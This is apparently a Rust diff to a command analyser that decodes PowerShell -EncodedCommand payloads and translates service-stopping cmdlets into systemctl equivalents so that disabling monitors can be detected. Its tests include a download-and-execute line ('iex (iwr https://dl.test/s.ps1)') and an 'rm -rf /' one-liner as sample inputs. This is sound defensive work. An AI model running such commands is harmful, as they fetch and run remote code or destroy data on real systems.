@@ -653,6 +653,34 @@ fn looks_base64(s: &str) -> bool {
             .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=')
 }
 
+/// PowerShell accepts any unambiguous prefix of `-EncodedCommand` (`-enc`, `-ec`, `-e`).
+fn is_ps_encoded_flag(a: &str) -> bool {
+    let l = a.to_ascii_lowercase();
+    let Some(name) = l.strip_prefix('-').or_else(|| l.strip_prefix('/')) else {
+        return false;
+    };
+    name == "ec" || (name.len() >= 3 && "encodedcommand".starts_with(name))
+}
+
+/// Base64 of UTF-16LE text (PowerShell's `-EncodedCommand`), decoded when it is readable.
+fn decode_utf16_base64(s: &str) -> Option<String> {
+    let s = s.trim();
+    if !looks_base64(s) {
+        return None;
+    }
+    let bytes = base64::engine::general_purpose::STANDARD.decode(s).ok()?;
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|b| u16::from_le_bytes([b[0], b[1]]))
+        .collect();
+    let text = String::from_utf16(&units).ok()?;
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || c.is_whitespace())
+        .count();
+    (printable * 10 >= text.chars().count() * 9 && text.len() >= 4).then_some(text)
+}
+
 /// Decodes a base64 literal into printable text.
 pub fn decode_base64_text(s: &str) -> Option<String> {
     let s = s.trim();
@@ -950,11 +978,17 @@ fn parse_into(text: &str, depth: u8, out: &mut Script) {
                 };
                 let mut it = args.iter();
                 while let Some(a) = it.next() {
-                    if flags.contains(&a.as_str()) {
+                    // `-EncodedCommand` (and its abbreviations) carries base64 of UTF-16LE text
+                    let encoded = lang == "powershell" && is_ps_encoded_flag(a);
+                    if flags.contains(&a.as_str()) || encoded {
                         if let Some(s) = it.next() {
+                            let code = encoded
+                                .then(|| decode_utf16_base64(s))
+                                .flatten()
+                                .unwrap_or_else(|| s.clone());
                             codes.push(InlineCode {
                                 lang: lang.to_owned(),
-                                code: s.clone(),
+                                code,
                             });
                         }
                         break;
@@ -1082,6 +1116,23 @@ mod tests {
     }
 
     #[test]
+    fn powershell_encoded_command_is_decoded() {
+        // base64 of UTF-16LE `iex (iwr https://dl.test/s.ps1)`
+        let blob: String = {
+            use base64::Engine as _;
+            let units: Vec<u8> = "iex (iwr https://dl.test/s.ps1)"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes)
+                .collect();
+            base64::engine::general_purpose::STANDARD.encode(units)
+        };
+        let s = parse(&format!("powershell -NoProfile -EncodedCommand {blob}"));
+        assert!(s.inline_code.iter().any(|c| c.code.contains("dl.test")));
+        let s = parse(&format!("pwsh -enc {blob}"));
+        assert!(s.inline_code.iter().any(|c| c.code.contains("dl.test")));
+    }
+
+    #[test]
     fn inline_code_and_base64() {
         let s = parse("python3 -c \"import os; os.system('rm -rf /')\"");
         assert_eq!(s.inline_code.len(), 1);
@@ -1150,6 +1201,10 @@ const PS_CMDLETS: &[&str] = &[
     "saps",
     "add-localgroupmember",
     "new-item",
+    "stop-service",
+    "spsv",
+    "set-service",
+    "remove-service",
 ];
 
 /// Whether a command line uses PowerShell cmdlets (case-insensitive `Verb-Noun` names).
@@ -1402,6 +1457,24 @@ pub fn powershell_to_sh(code: &str) -> String {
                     } else {
                         inner
                     }
+                }
+                // service control reads as `systemctl`, so stopping or disabling a monitor is
+                // judged the same way on every OS
+                "stop-service" | "spsv" | "set-service" | "remove-service" => {
+                    let name = get(&["name", "displayname"])
+                        .or_else(|| pos.first().cloned())
+                        .unwrap_or_default();
+                    let disables =
+                        get(&["startuptype"]).is_some_and(|t| t.eq_ignore_ascii_case("disabled"));
+                    let stops = get(&["status"]).is_some_and(|t| t.eq_ignore_ascii_case("stopped"));
+                    let verb = match cmd.as_str() {
+                        "set-service" if disables => "disable",
+                        "set-service" if stops => "stop",
+                        "set-service" => "status",
+                        "remove-service" => "disable",
+                        _ => "stop",
+                    };
+                    format!("systemctl {verb} {}", sh_quote(&name))
                 }
                 "add-localgroupmember" => {
                     let g = get(&["group", "name", "sid"]).unwrap_or_default();
